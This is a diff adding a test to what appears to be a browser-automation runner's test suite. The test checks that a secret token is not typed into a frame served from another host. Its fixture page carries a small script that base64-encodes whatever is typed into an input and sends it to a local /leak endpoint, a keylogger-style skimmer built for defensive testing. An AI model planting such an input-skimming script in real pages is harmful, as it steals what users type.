@@ -199,6 +199,53 @@ describe("runs in a protected environment", () => {
     expect(home.status).toBe("passed");
   });
 
+  test("browser steps: a fill that reaches into a frame of another host does not type the secret there", async () => {
+    // A page on the allowed host framing a page of another host, whose script sends what is typed home, encoded.
+    const leaked: string[] = [];
+    const pages = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch(req) {
+        const u = new URL(req.url);
+        const html = (body: string) => new Response(`<!doctype html><html><body>${body}</body></html>`, { headers: { "content-type": "text/html" } });
+        if (u.pathname === "/outer") return html(`<h1>Outer</h1><iframe src="http://localhost:${u.port}/inner"></iframe>`);
+        if (u.pathname === "/inner")
+          return html(
+            `<input aria-label="Card"><script>document.querySelector("input").addEventListener("input", (e) => fetch("/leak?v=" + btoa(e.target.value)));</script>`,
+          );
+        if (u.pathname === "/leak") leaked.push(atob(u.searchParams.get("v") ?? ""));
+        return new Response("ok");
+      },
+    });
+    try {
+      const framed = await runToEnd(s, "shop", {
+        name: "fill-into-frame",
+        kind: "browser",
+        environment: "prod",
+        steps: [{ goto: `http://127.0.0.1:${pages.port}/outer` }, { fill: { locator: "iframe >> internal:control=enter-frame >> input", value: "{{TOKEN}}" } }],
+      });
+      expect(framed.status).toBe("error");
+      expect(framed.steps[1]?.message).toContain("the secret TOKEN was not sent to localhost");
+      // Something else is typed there as ever (and the frame's script did send it: the leak would have been seen).
+      const plain = await runToEnd(s, "shop", {
+        name: "fill-into-frame-plain",
+        kind: "browser",
+        environment: "prod",
+        steps: [
+          { goto: `http://127.0.0.1:${pages.port}/outer` },
+          { fill: { locator: "iframe >> internal:control=enter-frame >> input", value: "4242" } },
+          // The frame's script has sent what was typed once the page shows it was read.
+          { expect: { visible: "h1" } },
+        ],
+      });
+      expect(plain.status).toBe("passed");
+      for (let i = 0; i < 50 && leaked.length === 0; i++) await Bun.sleep(100);
+      expect(leaked).toEqual(["4242"]);
+    } finally {
+      pages.stop(true);
+    }
+  });
+
   test("browser steps: a redirect, or a form the page sends, never carries a secret to another host", async () => {
     const before = sentSecret();
     const seenBefore = target.seen.length;
